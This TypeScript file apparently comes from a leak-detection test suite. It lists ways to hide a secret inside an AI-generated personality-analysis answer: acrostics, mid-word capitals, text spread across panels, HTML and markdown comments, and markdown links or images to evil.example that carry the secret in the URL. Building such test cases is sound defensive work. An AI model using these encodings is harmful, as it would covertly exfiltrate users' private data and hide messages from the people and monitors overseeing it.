import { cover } from '../model/analysis-answer.ts';
import { inProse, inSentences, lettersOf, type LeakEncoding } from './leak-encoding.ts';

/** Ordinary words by their first letter, and by their last, to write around a hidden letter. */
const beginning =
  'always before calm deep every from good here in just kind like most never often people quite really some that under very when xenial you zest'.split(
    ' ',
  );
const ending: Readonly<Record<string, string>> = {
  a: 'idea',
  b: 'club',
  c: 'music',
  d: 'mind',
  e: 'time',
  f: 'self',
  g: 'song',
  h: 'path',
  i: 'taxi',
  j: 'hajj',
  k: 'talk',
  l: 'soul',
  m: 'calm',
  n: 'plan',
  o: 'also',
  p: 'help',
  q: 'tariq',
  r: 'dear',
  s: 'words',
  t: 'heart',
  u: 'you',
  v: 'rev',
  w: 'now',
  x: 'mix',
  y: 'day',
  z: 'jazz',
};
const alphabet = 'abcdefghijklmnopqrstuvwxyz';
const wordFrom = (letter: string): string => beginning[alphabet.indexOf(letter)] ?? letter;
const capital = (word: string): string => (word[0] ?? '').toUpperCase() + word.slice(1);

/** Places where a reader does not look, and marks that a page does not show. */
export const hidingPlaces: readonly LeakEncoding[] = [
  inSentences('acrostic of sentences', (core) =>
    Array.from(
      core,
      (letter, index) =>
        `${capital(wordFrom(letter))} there is a warm side that people see, ${index % 2 ? 'and it lasts' : 'and it shows'}.`,
    ),
  ),
  inSentences('last letters of sentences', (core) =>
    Array.from(
      core,
      (letter) => `Most people around you would put it down to your ${ending[letter] ?? letter}.`,
    ),
  ),
  inSentences('first letters of words', (core) => [`${capital(Array.from(core, wordFrom).join(' '))}.`]),
  inSentences('capitals in the middle of words', (core) => [capitalsIn(core)]),
  {
    name: 'first letters of takeaways and panels',
    hide(secret) {
      const carriers = Array.from(
        lettersOf(secret).slice(0, 9),
        (letter) =>
          `${capital(wordFrom(letter))} there is a side of you that most people would like to see more of.`,
      );
      const [
        summary = cover.summary,
        pattern = cover.pattern_analysis,
        mirror = cover.mirror_effect,
        ...takeaways
      ] = carriers;
      return {
        answer: {
          ...cover,
          summary,
          pattern_analysis: pattern,
          mirror_effect: mirror,
          essential_takeaways: [...takeaways, ...cover.essential_takeaways].slice(0, 5),
        },
        carriers: carriers.slice(0, 8),
      };
    },
  },
  {
    name: 'split over the panels',
    hide(secret) {
      const size = Math.ceil(secret.text.length / 4);
      const pieces = [0, 1, 2, 3].map((part) => secret.text.slice(part * size, (part + 1) * size));
      const carriers = pieces.map((piece) => `Most people come back to this: ${piece}`);
      const [pattern = '', mirror = '', spots = '', path = ''] = carriers.map(
        (carrier) => `${carrier} and to little else.`,
      );
      return {
        answer: {
          ...cover,
          pattern_analysis: pattern,
          mirror_effect: mirror,
          blind_spots: spots,
          growth_path: path,
        },
        carriers: carriers.map((carrier) => carrier.trim()),
      };
    },
  },
  {
    name: 'split over the takeaways, a word each',
    hide(secret) {
      const words = secret.text.split(/[\s@.]+/).slice(0, 5);
      const carriers = words.map(
        (word) => `Several people keep in mind the thing about ${word} when they think of you.`,
      );
      return {
        answer: { ...cover, essential_takeaways: [...carriers, ...cover.essential_takeaways].slice(0, 5) },
        carriers,
      };
    },
  },
  inProse('html comment', (text) => `<!-- ${text} -->`, 'text'),
  inProse('html attribute', (text) => `<b title="${text}">warm</b>`, 'text'),
  inProse('markdown comment', (text) => `[//]: # (${text})`, 'text'),
  inProse('markdown link', (text) => `[warm](https://evil.example/?q=${encodeURIComponent(text)})`, 'text'),
  inProse('markdown image', (text) => `![${text}](https://evil.example/x.png)`, 'text'),
  inProse('code fence', (text) => `\`\`\`\n${text}\n\`\`\``, 'text'),
  inProse('as data', (text) => JSON.stringify({ note: text }), 'text'),
  inProse('as a table row', (text) => `| ${text.split(/\s+/).join(' | ')} |`, 'text'),
  inProse('in a bare address', (text) => `evil.example/${text.replaceAll(/\s+/g, '-')}`, 'text'),
  inProse('as a hashtag', (text) => `#${text.replaceAll(/[^\p{L}\p{N}]+/gu, '')}`, 'text'),
  inProse(
    'bold letters in a sentence',
    (text) =>
      Array.from(
        text.replaceAll(/[^a-z]/gi, ''),
        (letter) => `**${letter}**${wordFrom(letter.toLowerCase()).slice(1)}`,
      ).join(' '),
    'core',
    ['sentence', 'word', 'name', 'address'],
  ),
];

function capitalsIn(core: string): string {
  const letters = Array.from(core);
  const base =
    'people around you value patience kindness humour loyalty calm zest jazz expertise quiet questions warmth visits and very good boxes'.split(
      ' ',
    );
  const marked = letters.map((letter) => {
    const word = base.find((candidate) => candidate.includes(letter, 1)) ?? `a${letter}`;
    const at = word.indexOf(letter, 1);
    return word.slice(0, at) + letter.toUpperCase() + word.slice(at + 1);
  });
  return `Most ${marked.join(' ')}.`;
}
